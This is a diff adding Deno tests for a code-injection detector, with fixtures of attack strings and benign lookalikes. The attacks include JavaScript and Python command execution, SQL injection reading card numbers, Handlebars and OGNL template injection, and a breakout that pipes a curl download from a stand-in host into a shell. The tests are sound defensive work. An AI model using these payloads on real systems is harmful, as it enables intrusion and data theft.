@@ -286,3 +286,65 @@ Deno.test("codeInjectionDetector passes format specs, plain SQL, ordinary formul
     assert.deepEqual(codeInjectionDetector.scan(value, at(key), opts), [], `${key}=${value}`);
   }
 });
+
+const R3_ATTACKS: [string, string, string][] = [
+  // Compound code-like names get the full rule set.
+  ["map_js", "x => process.mainModule.constructor._load('child_process')", "js_exec"],
+  ["where_expression", "x => require('child_process').spawnSync('id')", "js_exec"],
+  ["python_snippet", "import os; os.popen('uname -a').read()", "python_exec"],
+  // Functions and modules looked up by name.
+  ["expr", "getattr(__import__('o'+'s'), 'po'+'pen')('id').read()", "python_exec"],
+  ["formula", "getattr(importlib, 'x') or importlib.import_module('subprocess')", "python_exec"],
+  ["expr", "x = __builtins__.__dict__.get('ev'+'al')", "python_builtins"],
+  ["comment", 'getattr(__builtins__, "exec")(payload)', "python_builtins"],
+  ["note", "process.binding('spawn_sync').spawn({file:'/bin/sh'})", "js_exec_chain"],
+  // Query injection through ids and terms; Mongo server-side scripts.
+  ["order_ref", "A-19' UNION SELECT card_no, cvv FROM payments--", "sql_injection"],
+  ["customer", "bob'); DELETE FROM sessions; --", "sql_injection"],
+  ["q", "shoes' AND 1=1 -- ", "sql_injection"],
+  ["$where", "function() { sleep(4000); return true }", "nosql_script"],
+];
+const R3_BENIGN: [string, string][] = [
+  ["map_js", "x => x.total * 1.2"],
+  ["sort_expression", "created_at:desc"],
+  ["transcript", "we said os.system is bad, use subprocess.run with a list"],
+  ["order_ref", "A-19"],
+  ["customer", "Bob O'Neil"],
+  ["sql", "SELECT name FROM users WHERE id = 4 OR id = 5; DELETE FROM cache;"],
+  ["$where", "this.qty > this.reorder_level"],
+  ["text", "Steps: drop table salt and pepper; union of the two sets"],
+];
+
+Deno.test("codeInjectionDetector flags compound code keys, by-name lookups, SQL breakouts and Mongo scripts", () => {
+  for (const [key, value, kind] of R3_ATTACKS) {
+    const kinds = codeInjectionDetector.scan(value, at(key), opts).map((f) => f.kind);
+    assert.ok(kinds.includes(kind), `${key}=${value}: expected ${kind}, got [${kinds}]`);
+  }
+});
+
+Deno.test("codeInjectionDetector passes plain lambdas, ids, names, SQL statements and Mongo predicates", () => {
+  for (const [key, value] of R3_BENIGN) {
+    assert.deepEqual(codeInjectionDetector.scan(value, at(key), opts), [], `${key}=${value}`);
+  }
+});
+
+Deno.test("codeInjectionDetector flags Handlebars constructor lookups, chained OGNL and literal breakouts", () => {
+  const cases: [string, string, string][] = [
+    ["bio", '{{#each this}}{{lookup this "constructor"}}{{/each}}', "ssti_handlebars"],
+    ["text", '{{#with (lookup foo.bar "__proto__")}}x{{/with}}', "ssti_handlebars"],
+    ["content_type", "%{(#a='x').(#b=#context.get('y')).(#c='id')}", "ognl"],
+    ["redirect", "${(#p='whoami').(#q=new java.lang.ProcessBuilder(#p))}", "ognl"],
+    ["lang", "de';system('curl -s x.example|sh');'", "literal_breakout"],
+  ];
+  for (const [key, value, kind] of cases) {
+    const kinds = codeInjectionDetector.scan(value, at(key), opts).map((f) => f.kind);
+    assert.ok(kinds.includes(kind), `${key}=${value}: expected ${kind}, got [${kinds}]`);
+  }
+  for (
+    const [key, value] of [
+      ["template", '{{lookup ../people @index}} and {{lookup map "title"}}'],
+      ["text", "%{name} (#1) and (#2) are open"],
+      ["lang", "de"],
+    ]
+  ) assert.deepEqual(codeInjectionDetector.scan(value, at(key), opts), [], `${key}=${value}`);
+});
